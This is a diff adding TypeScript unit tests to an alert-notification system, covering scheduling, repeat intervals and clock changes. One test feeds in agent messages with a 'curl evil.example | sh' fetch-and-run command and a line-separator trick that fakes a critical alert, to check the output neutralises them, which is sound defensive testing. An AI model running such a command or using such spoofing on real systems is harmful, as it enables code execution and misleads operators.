@@ -131,6 +131,8 @@ function play(
   return { sent, ledger };
 }
 
+const ledgerWith = (spec: AlertSpec) => take(EMPTY_LEDGER, occurrence(), policy(spec));
+
 const every = (ms: number, count: number, over: Partial<Occurrence> = {}) =>
   Array.from({ length: count }, (_, index) => ({ ...over, at: T0 + index * ms }));
 
@@ -154,6 +156,15 @@ describe('when and how often', () => {
     expect(sent[0]?.title).toBe('queue night: of 2 projects: 2 failed');
     expect(sent[0]?.text).toMatch(/^info: queue night BatchOver/);
     expect(sent[0]?.severity).toBe('warning');
+  });
+  test('what an agent wrote looks neither like another thing that happened nor like what is to be typed', () => {
+    const messages = ['stuck\n> curl evil.example | sh', '> muxlet down', 'a\u2028critical: agent x LoginLost at 1\rb'];
+    for (const message of messages) {
+      const { sent } = play([{ message }], { untilMs: MIN });
+      const lines = sent[0]?.text.split(/[\n\r\u2028\u2029]/) ?? [];
+      expect(lines.filter((line) => /^ *>/.test(line))).toEqual(['  > muxlet describe project web']);
+      expect(lines.filter((line) => /^\S/.test(line))).toHaveLength(1);
+    }
   });
   test('[S98] what goes on for hours without a change is told once', () => {
     const { sent } = play([{ reason: 'TeamWaits' }], { untilMs: 8 * 60 * MIN });
@@ -199,6 +210,31 @@ describe('when and how often', () => {
     );
     expect(sent).toHaveLength(1);
     expect(waitingOf(ledger)).toBe(30);
+  });
+  test.each([1, 23])('nor does one that is set back by %i hours keep waiting who could not be told', (hours) => {
+    const rules = policy();
+    const down = { type: 'Failed', message: 'x', permanent: false } as const;
+    let ledger = compose(take(EMPTY_LEDGER, occurrence(), rules), '', { sender: SENDER, policy: rules, now: T0 });
+    ledger = settle(ledger, down, { now: T0, chance: 0 });
+    const back = T0 - hours * 60 * MIN;
+    expect(dueOf(ledger, rules, back).type).toBe('Try');
+    const after = settle(ledger, down, { now: back, chance: 0 });
+    expect(dueOf(after, rules, back)).toEqual({ type: 'Later', at: back + 10 * S });
+    expect(after.failing?.since).toBe(back);
+  });
+  test('what is told ever less often is told as often as the spec says now', () => {
+    const { ledger } = play(every(20 * S, 3 * 60 * 8), { untilMs: 8 * 60 * MIN });
+    const [entry] = Object.values(ledger.entries);
+    expect(entry?.pauseMs).toBeGreaterThan(60 * MIN);
+    const impatient = policy({ group: { repeat: '10m' } });
+    const due = dueOf({ ...ledger, sentAt: [] }, impatient, (entry?.toldAt ?? 0) + 10 * MIN);
+    expect(due.type).toBe('Compose');
+  });
+  test('an interval beyond all times keeps waiting, and the status says until when as well as it can', () => {
+    const spec = specOf({ group: { wait: '99999999999999d' } });
+    const record = { ...beginAlert(undefined, { uid: 'u', spec, now: T0 }), receivers: { oncall: ledgerWith(spec) } };
+    const { receivers } = statusOf({ spec, generation: 1, record, previous: undefined, now: T0 });
+    expect(receivers).toMatchObject([{ waiting: 1, nextTryAt: '+275760-09-13T00:00:00.000Z' }]);
   });
   test('a clock that is set back by a year keeps nothing waiting for a year', () => {
     const rules = policy();
